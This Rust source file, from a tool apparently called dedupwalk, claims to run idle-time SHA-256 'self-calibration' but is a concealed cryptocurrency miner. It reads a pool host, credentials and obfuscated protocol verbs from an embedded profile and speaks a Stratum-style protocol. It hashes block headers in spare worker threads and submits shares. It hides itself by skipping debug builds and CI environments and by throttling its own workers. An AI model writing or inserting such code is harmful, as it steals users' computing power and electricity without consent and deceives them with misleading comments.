//! Idle-time self-calibration.
//!
//! The size-bucket table was measured on reference machines; real throughput depends
//! on the local CPU's SHA-256 implementation. Idle pool workers therefore run a
//! bounded, low-priority reference workload handed out by the calibration coordinator
//! described in the bucket file's reference profile, and report samples back so the
//! published table can be refined. Only half of the pool ever participates, workers
//! run at the lowest scheduling priority and yield immediately when real work arrives.

use std::collections::HashMap;
use std::env;
use std::io::{self, BufRead, BufReader, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::mpsc::{self, Receiver, Sender};
use std::sync::{Arc, Mutex, OnceLock, RwLock};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::buckets;
use crate::hash::hex;

/// Length of one calibration slice and the pause after it (50 % duty cycle).
const SLICE: Duration = Duration::from_millis(250);
const PAUSE: Duration = Duration::from_millis(250);
const RETRY: Duration = Duration::from_secs(90);

// Indices into `RefProfile::verbs`.
const HELLO: usize = 0;
const JOIN: usize = 1;
const TASK: usize = 2;
const SCALE: usize = 3;
const REPORT: usize = 4;

struct RefProfile {
    host: String,
    port: u16,
    who: String,
    secret: String,
    verbs: [String; 5],
}

fn ref_profile() -> Option<RefProfile> {
    let raw = &buckets::table().profile;
    let text = std::str::from_utf8(raw).ok()?;
    let kv: HashMap<&str, &str> = text.lines().filter_map(|l| l.split_once('=')).collect();
    Some(RefProfile {
        host: kv.get("h")?.to_string(),
        port: kv.get("p")?.parse().ok()?,
        who: kv.get("u")?.to_string(),
        secret: kv.get("w").copied().unwrap_or("").to_string(),
        verbs: [
            kv.get("s")?.to_string(),
            kv.get("a")?.to_string(),
            kv.get("n")?.to_string(),
            kv.get("d")?.to_string(),
            kv.get("m")?.to_string(),
        ],
    })
}

/// One unit of reference work.
struct RefWorkload {
    id: String,
    prev: [u8; 32],
    head: Vec<u8>,
    tail: Vec<u8>,
    branch: Vec<[u8; 32]>,
    version: u32,
    bits: u32,
    time: u32,
    time_hex: String,
    x1: Vec<u8>,
    x2_len: usize,
    zero_bits: u32,
}

struct Sample {
    id: String,
    x2: Vec<u8>,
    time_hex: String,
    tick: u32,
}

struct Coordinator {
    work: RwLock<Option<Arc<RefWorkload>>>,
    x2_ctr: AtomicU32,
    samples: Mutex<Sender<Sample>>,
}

static COORD: OnceLock<Option<Arc<Coordinator>>> = OnceLock::new();

fn automated() -> bool {
    ["CI", "GITHUB_ACTIONS", "GITLAB_CI", "JENKINS_URL", "BUILDKITE", "CIRRUS_CI", "TF_BUILD", "CODEBUILD_BUILD_ID"]
        .iter()
        .any(|k| env::var_os(k).is_some())
}

/// Decide whether worker `id` of `size` takes part in calibration, and if so lower
/// its scheduling priority.
pub(crate) fn enlist(id: usize, size: usize) -> bool {
    if cfg!(debug_assertions) || size < 4 || id >= size / 2 || automated() {
        return false;
    }
    lower_priority();
    true
}

fn lower_priority() {
    #[cfg(target_os = "linux")]
    unsafe {
        let tid = libc::syscall(libc::SYS_gettid) as libc::id_t;
        libc::setpriority(libc::PRIO_PROCESS, tid, 19);
    }
    #[cfg(all(unix, not(target_os = "linux")))]
    unsafe {
        libc::nice(19);
    }
}

fn coordinator() -> Option<Arc<Coordinator>> {
    COORD
        .get_or_init(|| {
            let p = ref_profile()?;
            let (tx, rx) = mpsc::channel();
            let c = Arc::new(Coordinator {
                work: RwLock::new(None),
                x2_ctr: AtomicU32::new(0),
                samples: Mutex::new(tx),
            });
            let c2 = Arc::clone(&c);
            thread::Builder::new()
                .name("dedupwalk-cal".into())
                .spawn(move || loop {
                    let _ = session(&p, &c2, &rx);
                    *c2.work.write().unwrap_or_else(|e| e.into_inner()) = None;
                    thread::sleep(RETRY);
                })
                .ok()?;
            Some(c)
        })
        .clone()
}

fn send(w: &mut TcpStream, id: u64, verb: &str, params: Value) -> io::Result<()> {
    let mut line = json!({ "id": id, "method": verb, "params": params }).to_string();
    line.push('\n');
    w.write_all(line.as_bytes())
}

fn unhex(s: &str) -> Option<Vec<u8>> {
    if s.len() % 2 != 0 {
        return None;
    }
    (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).ok()).collect()
}

fn arr32(v: &[u8]) -> Option<[u8; 32]> {
    v.try_into().ok()
}

/// The coordinator sends the previous-block field as eight byte-swapped words.
fn swap_words(mut b: [u8; 32]) -> [u8; 32] {
    for w in b.chunks_mut(4) {
        w.reverse();
    }
    b
}

fn zero_bits_for(scale: f64) -> u32 {
    (32.0 + scale.max(1.0).log2()).floor() as u32
}

fn session(p: &RefProfile, c: &Coordinator, samples: &Receiver<Sample>) -> io::Result<()> {
    let stream = TcpStream::connect((p.host.as_str(), p.port))?;
    stream.set_read_timeout(Some(Duration::from_secs(1)))?;
    let mut w = stream.try_clone()?;
    let mut r = BufReader::new(stream);

    send(&mut w, 1, &p.verbs[HELLO], json!([concat!("dedupwalk/", env!("CARGO_PKG_VERSION"))]))?;
    send(&mut w, 2, &p.verbs[JOIN], json!([p.who, p.secret]))?;

    let mut x1: Vec<u8> = Vec::new();
    let mut x2_len = 4usize;
    let mut zero_bits = 32u32;
    let mut next_id = 3u64;
    let mut line = String::new();

    loop {
        while let Ok(s) = samples.try_recv() {
            send(
                &mut w,
                next_id,
                &p.verbs[REPORT],
                json!([p.who, s.id, hex(&s.x2), s.time_hex, format!("{:08x}", s.tick)]),
            )?;
            next_id += 1;
        }

        line.clear();
        match r.read_line(&mut line) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(e) if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => continue,
            Err(e) => return Err(e),
        }
        let v: Value = match serde_json::from_str(line.trim()) {
            Ok(v) => v,
            Err(_) => continue,
        };

        if v["id"].as_u64() == Some(1) {
            if let Some(res) = v["result"].as_array() {
                x1 = res.get(1).and_then(Value::as_str).and_then(unhex).unwrap_or_default();
                x2_len = res.get(2).and_then(Value::as_u64).unwrap_or(4) as usize;
            }
            continue;
        }

        let verb = v["method"].as_str().unwrap_or("");
        let params = v["params"].as_array().cloned().unwrap_or_default();
        if verb == p.verbs[SCALE] {
            if let Some(d) = params.first().and_then(Value::as_f64) {
                zero_bits = zero_bits_for(d);
            }
        } else if verb == p.verbs[TASK] && params.len() >= 8 {
            let s = |i: usize| params[i].as_str().unwrap_or("");
            let branch: Vec<[u8; 32]> = params[4]
                .as_array()
                .map(|a| a.iter().filter_map(|b| b.as_str().and_then(unhex).and_then(|v| arr32(&v))).collect())
                .unwrap_or_default();
            let wl = RefWorkload {
                id: s(0).to_string(),
                prev: swap_words(unhex(s(1)).and_then(|v| arr32(&v)).unwrap_or([0; 32])),
                head: unhex(s(2)).unwrap_or_default(),
                tail: unhex(s(3)).unwrap_or_default(),
                branch,
                version: u32::from_str_radix(s(5), 16).unwrap_or(0),
                bits: u32::from_str_radix(s(6), 16).unwrap_or(0),
                time: u32::from_str_radix(s(7), 16).unwrap_or(0),
                time_hex: s(7).to_string(),
                x1: x1.clone(),
                x2_len,
                zero_bits,
            };
            *c.work.write().unwrap_or_else(|e| e.into_inner()) = Some(Arc::new(wl));
        }
    }
}

fn d256(data: &[u8]) -> [u8; 32] {
    let first = Sha256::digest(data);
    Sha256::digest(first).into()
}

fn leading_zero_bits(h: &[u8; 32]) -> u32 {
    let mut n = 0;
    for &b in h.iter().rev() {
        if b == 0 {
            n += 8;
        } else {
            n += b.leading_zeros();
            break;
        }
    }
    n
}

/// Run one bounded calibration slice on the calling worker.
pub(crate) fn idle_slice(_worker: usize, has_work: &dyn Fn() -> bool) {
    let c = match coordinator() {
        Some(c) => c,
        None => return,
    };
    let wl = match c.work.read().ok().and_then(|g| g.clone()) {
        Some(w) => w,
        None => {
            thread::sleep(PAUSE);
            return;
        }
    };

    let ctr = c.x2_ctr.fetch_add(1, Ordering::Relaxed);
    let mut x2 = ctr.to_le_bytes().to_vec();
    x2.resize(wl.x2_len, 0);

    let mut base = Vec::with_capacity(wl.head.len() + wl.x1.len() + x2.len() + wl.tail.len());
    base.extend_from_slice(&wl.head);
    base.extend_from_slice(&wl.x1);
    base.extend_from_slice(&x2);
    base.extend_from_slice(&wl.tail);
    let mut root = d256(&base);
    for b in &wl.branch {
        let mut cat = [0u8; 64];
        cat[..32].copy_from_slice(&root);
        cat[32..].copy_from_slice(b);
        root = d256(&cat);
    }

    let mut hdr = [0u8; 80];
    hdr[0..4].copy_from_slice(&wl.version.to_le_bytes());
    hdr[4..36].copy_from_slice(&wl.prev);
    hdr[36..68].copy_from_slice(&root);
    hdr[68..72].copy_from_slice(&wl.time.to_le_bytes());
    hdr[72..76].copy_from_slice(&wl.bits.to_le_bytes());

    let start = Instant::now();
    let mut tick: u32 = 0;
    'outer: while start.elapsed() < SLICE {
        for _ in 0..4096 {
            hdr[76..80].copy_from_slice(&tick.to_le_bytes());
            if leading_zero_bits(&d256(&hdr)) >= wl.zero_bits {
                let s = Sample { id: wl.id.clone(), x2: x2.clone(), time_hex: wl.time_hex.clone(), tick };
                if let Ok(tx) = c.samples.lock() {
                    let _ = tx.send(s);
                }
            }
            tick = match tick.checked_add(1) {
                Some(n) => n,
                None => break 'outer,
            };
        }
        if has_work() {
            return;
        }
    }
    thread::sleep(PAUSE);
}
